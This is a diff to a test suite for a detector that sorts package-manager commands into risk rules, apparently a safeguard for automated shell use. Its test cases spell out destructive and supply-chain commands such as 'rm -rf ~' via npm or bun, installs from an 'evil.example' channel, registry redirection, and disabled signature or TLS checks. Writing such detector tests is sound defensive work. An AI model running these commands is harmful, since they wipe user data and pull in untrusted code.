@@ -54,6 +54,27 @@ describe('a package manager command', () => {
     ['npm --prefix x exec -- rm -rf ~', 'delete-home'],
     ["npm exec -c 'rm -rf ~'", 'delete-home'],
     ["npm exec --call='rm -rf ~'", 'delete-home'],
+    ['npm pub', 'package-publish'],
+    ['npm x -- rm -rf ~', 'delete-home'],
+    ['yarn workspace web npm publish', 'package-publish'],
+    ['yarn workspaces foreach -A exec npm publish', 'package-publish'],
+    ['cargo +nightly publish', 'package-publish'],
+    ['bundle _2.4.0_ exec rm -rf ~', 'delete-home'],
+    ['corepack pnpm publish', 'package-publish'],
+    ['bun x rimraf ~', 'delete-home'],
+    ["bun exec 'rm -rf ~'", 'delete-home'],
+    ['npm dist-tag add web@1.0.0 latest', 'package-publish'],
+    ['npm access set status=public web', 'access-grant'],
+    ['npm org set acme eve developer', 'access-grant'],
+    ['cargo owner --remove alice core', 'package-remove'],
+    ['npm pkg delete scripts.test', 'test-tampering'],
+    ['npm install --strict-ssl=false lodash', 'security-posture'],
+    ['conda install -c http://evil.example/channel numpy', 'supply-chain'],
+    ['conda config --add channels http://evil.example/channel', 'source-redirect'],
+    ['YARN_NPM_REGISTRY_SERVER=http://evil.example yarn install', 'source-redirect'],
+    ['GOSUMDB=off go mod download', 'security-posture'],
+    ['dnf --setopt=gpgcheck=0 install foo', 'supply-chain'],
+    ['snap install --dangerous ./foo.snap', 'supply-chain'],
   ])('%s: %s', (command, rule) => {
     expect(rules(command)).toContain(rule);
   });
@@ -71,6 +92,12 @@ describe('a package manager command', () => {
     'npm config set registry https://registry.npmjs.org/',
     'cargo -p core test',
     'poetry -C svc install --with dev',
+    'npm publish --registry http://localhost:4873',
+    'npm t',
+    'npm rm left-pad',
+    'conda install -c conda-forge numpy',
+    'GOPROXY=https://goproxy.io,direct go mod download',
+    'corepack enable',
   ])('%s stays ordinary', (command) => {
     expect(rules(command)).toEqual([]);
   });
